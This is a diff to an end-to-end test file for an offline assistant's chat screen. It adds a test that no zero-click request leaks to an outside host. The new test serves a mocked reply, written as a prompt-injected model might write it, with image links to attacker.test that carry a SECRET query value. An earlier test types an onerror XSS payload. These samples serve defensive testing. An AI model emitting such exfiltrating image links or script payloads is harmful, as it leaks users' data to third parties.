@@ -39,11 +39,15 @@ async function type(page: Page, text: string) {
 /** The text of the last assistant reply (the live one while it streams). */
 const lastReplyText = (page: Page) => chat.replies(page).last().innerText();
 
-async function waitForReplyDone(page: Page) {
-  await page.waitForFunction(() => !document.querySelector('[aria-busy="true"][data-role="assistant"]'), null, {
-    timeout: 20_000,
-  });
-  await chat.send(page).waitFor();
+/** Waits until `count` replies (besides the greeting) are finished and none is streaming. */
+async function waitForReplies(page: Page, count: number) {
+  await page.waitForFunction(
+    (expected) =>
+      !document.querySelector('[aria-busy="true"][data-role="assistant"]') &&
+      document.querySelectorAll('ol[aria-label="Messages"] > li [data-role="assistant"]').length >= expected + 1,
+    count,
+    { timeout: 20_000 },
+  );
 }
 
 describe('the chat screen', () => {
@@ -81,7 +85,7 @@ describe('the chat screen', () => {
       await page.waitForTimeout(60);
     }
     expect(lengths.size).toBeGreaterThanOrEqual(3);
-    await waitForReplyDone(page);
+    await waitForReplies(page, 1);
     expect(await lastReplyText(page)).toContain("I'm Turtle's offline assistant");
     // Focus comes back to the composer after the reply (not a touch device).
     await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'Message');
@@ -139,7 +143,7 @@ describe('the chat screen', () => {
     await page.locator('[data-lexical-beautiful-mention="true"], [data-beautiful-mention]').first().waitFor();
     await page.keyboard.type('?');
     await page.keyboard.press('Enter');
-    await waitForReplyDone(page);
+    await waitForReplies(page, 1);
     const reply = await lastReplyText(page);
     expect(reply).toContain('Rent is 900 dollars a month.');
     const sources = chat.replies(page).last().getByRole('link', { name: 'Budget plan', exact: true });
@@ -151,7 +155,7 @@ describe('the chat screen', () => {
     const { page } = await openChat();
     await type(page, 'Plan my week');
     await page.keyboard.press('Enter');
-    await waitForReplyDone(page);
+    await waitForReplies(page, 1);
     await page.waitForURL(/\/chats\?c=/);
     const list = chat.conversations(page);
     await list.getByRole('link', { name: 'Plan my week' }).waitFor();
@@ -187,7 +191,7 @@ describe('the chat screen', () => {
     });
     await type(page, '<img src=x onerror="window.__xss=1"> hello');
     await page.keyboard.press('Enter');
-    await waitForReplyDone(page);
+    await waitForReplies(page, 1);
     await chat.userBubbles(page).getByText('<img src=x onerror="window.__xss=1"> hello').waitFor();
 
     await type(page, 'bank login @Lin');
@@ -198,7 +202,7 @@ describe('the chat screen', () => {
     await option.waitFor({ state: 'detached' });
     await page.keyboard.press('Enter');
     await chat.userBubbles(page).nth(1).waitFor();
-    await waitForReplyDone(page);
+    await waitForReplies(page, 2);
     const reply = chat.replies(page).last();
     await reply.getByText('bank login').waitFor();
     const hrefs = await reply.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
@@ -208,12 +212,59 @@ describe('the chat screen', () => {
     expect(app.pageErrors).toEqual([]);
   });
 
+  it('makes no request to an outside address named by a reply or a message (no zero-click leaks)', async () => {
+    const { page } = await openChat();
+    const outside: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('attacker.test')) outside.push(request.url());
+    });
+    // A reply as a prompt-injected model might write it, served in place of the real stream.
+    const reply =
+      'Here you go ![a](https://attacker.test/p.png?d=SECRET) and <img src="https://attacker.test/raw.png"> ' +
+      '[click](https://attacker.test/link)';
+    const frame = (chunk: object) => `data: ${JSON.stringify(chunk)}\n\n`;
+    const now = Date.now();
+    await page.route('**/api/chat/send', (route) =>
+      route.fulfill({
+        status: 200,
+        headers: { 'content-type': 'text/event-stream; charset=utf-8' },
+        body:
+          frame({
+            token: '',
+            finish_reason: null,
+            meta: {
+              conversation: { id: 'c-fake', title: 'Leak test', createdAt: now, updatedAt: now },
+              userMessage: {
+                id: 'u-fake',
+                role: 'user',
+                content: 'hi',
+                htmlContent: '<p>hi <img src="https://attacker.test/from-html.png"></p>',
+                timestamp: now,
+                status: 'complete',
+              },
+              assistantMessageId: 'a-fake',
+              sources: [],
+            },
+          }) +
+          frame({ token: reply, finish_reason: null }) +
+          frame({ token: '', finish_reason: 'stop' }) +
+          'data: [DONE]\n\n',
+      }),
+    );
+    await type(page, 'hi');
+    await page.keyboard.press('Enter');
+    await chat.replies(page).last().getByText('(image blocked)').first().waitFor();
+    await page.waitForTimeout(300);
+    expect(outside).toEqual([]);
+    expect(await chat.replies(page).last().locator('img').count()).toBe(0);
+  });
+
   it('shows the conversations in a drawer on a phone', async () => {
     const { page } = await openChat({ viewport: PHONE });
     expect(await chat.conversations(page).isVisible()).toBe(false);
     await type(page, 'Hello from my phone');
     await chat.send(page).click();
-    await waitForReplyDone(page);
+    await waitForReplies(page, 1);
     await page.getByRole('button', { name: 'Show conversations' }).click();
     const drawer = page.getByRole('dialog', { name: 'Conversations' });
     await drawer.getByRole('link', { name: 'Hello from my phone' }).waitFor();
